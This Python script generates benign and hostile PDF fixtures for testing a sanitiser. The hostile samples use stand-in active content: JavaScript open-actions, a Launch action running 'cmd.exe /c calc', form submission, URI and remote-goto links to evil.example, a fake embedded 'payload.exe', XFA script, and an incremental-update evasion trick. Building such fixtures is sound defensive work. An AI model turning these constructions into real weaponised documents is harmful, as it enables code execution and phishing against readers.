#!/usr/bin/python3
"""Hostile and benign PDF samples for the `pdf` module's tests, written with python3-pikepdf
(and, for the incremental update, by appending a revision by hand, as editors do).

  generate.py --out DIR

Every hostile sample carries one kind of active content (its file name says which); the
finding code the sanitiser must report is in EXPECTED (read by the tests).
"""
import argparse
import os
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

BENIGN_LINES = ["mugai pdf sample: page one ABC-123", "second page keeps its words XYZ-789",
                "third page, the end"]

EXPECTED = {  # sample -> finding code
    "javascript.pdf": "pdf.javascript",
    "javascript-direct.pdf": "pdf.javascript",
    "open-action.pdf": "pdf.open-action",
    "additional-actions.pdf": "pdf.additional-actions",
    "launch.pdf": "pdf.launch",
    "submit-form.pdf": "pdf.submit-form",
    "import-data.pdf": "pdf.import-data",
    "gotor.pdf": "pdf.remote-goto",
    "gotoe.pdf": "pdf.embedded-goto",
    "uri.pdf": "pdf.uri",
    "embedded-file.pdf": "pdf.embedded-file",
    "file-attachment.pdf": "pdf.embedded-file",
    "rich-media.pdf": "pdf.rich-media",
    "xfa.pdf": "pdf.xfa",
    "objstm-incremental.pdf": "pdf.javascript",
}


def font_resources():
    return Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)))


def text_page(pdf, lines, size=(595, 842)):
    body = b"BT /F1 18 Tf 72 %d Td " % (size[1] - 100)
    for line in lines:
        body += b"(" + line.encode("latin-1") + b") Tj 0 -28 Td "
    body += b"ET"
    page = Dictionary(Type=Name.Page, MediaBox=Array([0, 0, size[0], size[1]]), Resources=font_resources(),
                      Contents=pdf.make_stream(body))
    pdf.pages.append(pikepdf.Page(page))
    return pdf.pages[-1]


def base(pages=1):
    pdf = pikepdf.new()
    for i in range(pages):
        text_page(pdf, [BENIGN_LINES[i % len(BENIGN_LINES)]])
    return pdf


def js(pdf, code="app.alert('mugai test');"):
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def link(pdf, page, action):
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 300, 100]),
                                         Border=Array([0, 0, 0]), A=action))
    page.obj.Annots = pdf.make_indirect(Array([annot]))


def embedded_file_stream(pdf, data=b"MZ\x90\x00 not really an executable\n"):
    return pdf.make_stream(data, Type=Name.EmbeddedFile)


def filespec(pdf, name="payload.exe"):
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name),
                                        EF=Dictionary(F=embedded_file_stream(pdf))))


def build(out):
    os.makedirs(out, exist_ok=True)
    save = lambda pdf, name, **kw: pdf.save(os.path.join(out, name), **kw)  # noqa: E731

    benign = base(3)
    benign.docinfo["/Title"] = "mugai benign sample"
    save(benign, "benign.pdf")

    pdf = base()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), js(pdf)])))
    link(pdf, pdf.pages[0], js(pdf, "this.exportDataObject({cName: 'x', nLaunch: 2});"))
    save(pdf, "javascript.pdf")

    pdf = base()
    pdf.Root.OpenAction = js(pdf)
    save(pdf, "open-action.pdf")

    # The action written inside the annotation (a direct object), not as an object of its own.
    pdf = base()
    link(pdf, pdf.pages[0], Dictionary(S=Name.JavaScript, JS=String("app.alert('direct');")))
    save(pdf, "javascript-direct.pdf")

    pdf = base()
    pdf.pages[0].obj.AA = Dictionary(O=js(pdf, "app.launchURL('http://evil.example/');"))
    save(pdf, "additional-actions.pdf")

    for name, action in [
        ("launch.pdf", Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
        ("submit-form.pdf", Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/")))),
        ("import-data.pdf", Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        ("gotor.pdf", Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit]))),
        ("gotoe.pdf", Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("payload.pdf")))),
        ("uri.pdf", Dictionary(S=Name.URI, URI=String("http://evil.example/phish"))),
    ]:
        pdf = base()
        link(pdf, pdf.pages[0], pdf.make_indirect(action))
        save(pdf, name)

    pdf = base()
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), filespec(pdf)])))
    save(pdf, "embedded-file.pdf")

    pdf = base()
    attachment = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                              Rect=Array([72, 72, 90, 90]), FS=filespec(pdf)))
    pdf.pages[0].obj.Annots = Array([attachment])
    save(pdf, "file-attachment.pdf")

    pdf = base()
    rich = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([72, 72, 300, 300]),
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("movie.swf"), filespec(pdf, "movie.swf")])))))
    pdf.pages[0].obj.Annots = Array([rich])
    save(pdf, "rich-media.pdf")

    pdf = base()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    pdf.Root.NeedsRendering = True
    save(pdf, "xfa.pdf")

    # Object streams (the JavaScript action lives inside one), then an incremental update that
    # adds an /OpenAction: only a reader of the latest revision and of object streams sees both.
    pdf = base(2)
    link(pdf, pdf.pages[0], js(pdf, "app.alert('inside an object stream');"))
    path = os.path.join(out, "objstm-incremental.pdf")
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    append_open_action_revision(path)

    # Encrypted: openable without a password (owner password only), and with a user password.
    pdf = base()
    pdf.Root.OpenAction = js(pdf)
    save(pdf, "encrypted-empty.pdf", encryption=pikepdf.Encryption(owner="owner-secret", user="", R=6))
    pdf = base()
    save(pdf, "encrypted-password.pdf", encryption=pikepdf.Encryption(owner="owner-secret", user="user-secret", R=6))

    # A4 shown in landscape (/Rotate 90): flatten must keep the size as displayed.
    pdf = base()
    pdf.pages[0].obj.Rotate = 90
    save(pdf, "rotated.pdf")

    with open(os.path.join(out, "malformed.pdf"), "wb") as f:
        f.write(b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" + zlib.compress(b"x" * 64) + b"\n%%EO")


def append_open_action_revision(path):
    """Appends a revision that replaces the catalog with one carrying an /OpenAction."""
    with pikepdf.open(path) as pdf:
        root = pdf.Root.objgen
        pages = pdf.Root.Pages.objgen
        size = int(pdf.trailer.Size)
        startxref = int(open(path, "rb").read().rsplit(b"startxref", 1)[1].split()[0])
    with open(path, "rb") as f:
        data = f.read()
    js_num = size
    body = bytearray()
    offsets = {}
    offsets[js_num] = len(data) + len(body)
    body += b"%d 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\('added by an update'\\);) >>\nendobj\n" % js_num
    offsets[root[0]] = len(data) + len(body)
    body += (b"%d %d obj\n<< /Type /Catalog /Pages %d %d R /OpenAction %d 0 R >>\nendobj\n"
             % (root[0], root[1], pages[0], pages[1], js_num))
    xref_at = len(data) + len(body)
    body += b"xref\n"
    for num in sorted(offsets):
        body += b"%d 1\n%010d %05d n \n" % (num, offsets[num], root[1] if num == root[0] else 0)
    body += (b"trailer\n<< /Size %d /Root %d %d R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
             % (js_num + 1, root[0], root[1], startxref, xref_at))
    with open(path, "ab") as f:
        f.write(bytes(body))


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", required=True)
    build(parser.parse_args().out)
